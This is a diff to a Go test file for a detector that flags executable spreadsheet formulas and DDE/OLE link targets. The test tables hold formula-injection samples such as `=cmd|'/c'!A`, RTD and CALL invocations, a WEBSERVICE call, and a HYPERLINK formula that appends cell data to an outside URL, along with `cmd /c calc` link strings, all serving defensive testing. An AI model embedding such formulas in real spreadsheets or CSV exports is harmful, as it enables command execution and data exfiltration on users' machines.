@@ -43,7 +43,7 @@ func TestItDoesNotMatterWhereATableIsCut(t *testing.T) {
 
 func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
 	for line, want := range map[string]bool{
-		`=RTD("a")`: true, `=IF(1,RTD("a"))`: true, `=@RTD (1)`: true, `+RTD(1)`: true, `-1+CALL(1)`: true, `=_xlfn._xlws.WEBSERVICE(A1)`: true,
+		`=RTD("a")`: true, `=IF(1,RTD("a"))`: true, `=@RTD (1)`: true, `+RTD("1")`: true, `-1+CALL("1")`: true, `=_xlfn._xlws.WEBSERVICE(A1)`: true,
 		`-- (see call (2))`: false, `- call (me)`: false, `= see exec(utive)`: false, `=A1+4,call (2)`: false, `-1,(call(2))`: false, `x,RTD(1)`: false,
 		`=cmd|'/c'!A`: true, `=1+cmd|x!A`: true, `=-cmd|'x'!A`: true, `=cmd|'a''b'!A`: true, `-x|y!`: false, `'=cmd|'x'!A`: false,
 		`=HYPERLINK("https://e/"&A1)`: true, `=HYPERLINK("#"&A1)`: false, `=HYPERLINK("https://e/?a&b",A1&"x")`: false, `=HYPERLINK(A1)`: false,
@@ -56,7 +56,7 @@ func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
 
 func TestClassesOfDocumentsAreToldFromPrograms(t *testing.T) {
 	for link, want := range map[string]bool{
-		"Word.Document.8\x03C:\\a.doc": true, "Excel.Sheet.12\x03\\\\h\\s\\a.xlsx": true, "AcroExch.Document.7\x03a.pdf": true, "Package\x03C:\\a.bmp": true, "Paint.Picture\x03C:\\a.bmp": true,
+		"Word.Document.8\x03C:\\a.doc": true, "Excel.Sheet.12\x03\\\\h\\s\\a.xlsx": false, "Excel.Sheet.8\x03http://h/a.xls": false, "Excel.Sheet.8\x03\x01@h\x03s\x03a.xls": false, "AcroExch.Document.7\x03a.pdf": true, "Package\x03C:\\a.bmp": true, "Paint.Picture\x03C:\\a.bmp": true,
 		"cmd\x03/c calc": false, "cmd.exe\x03C:\\a.doc": false, "cmd.exe.1\x03/c calc": false, "C:\\x.y.1\x03a.doc": false, "Word.Document.8\x03/c a.doc": false, "mshta\x03a.doc": false, "a..1\x03a.doc": false,
 	} {
 		service, topic, _ := strings.Cut(link, "\x03")
